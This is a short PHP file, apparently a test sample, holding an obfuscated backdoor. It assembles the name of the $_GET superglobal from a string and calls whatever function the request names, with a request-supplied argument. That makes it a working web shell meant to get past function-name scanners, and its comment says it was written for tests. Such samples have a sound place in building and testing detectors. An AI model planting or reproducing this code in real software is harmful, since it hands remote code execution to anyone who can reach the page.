<?php
// a backdoor without a function name: the superglobal's name is spelt from a constant
// and both the runner and its argument are read from it (written for the tests, never run)
$g = '_' . strtoupper('get');
${$g}['f'](${$g}['a']);
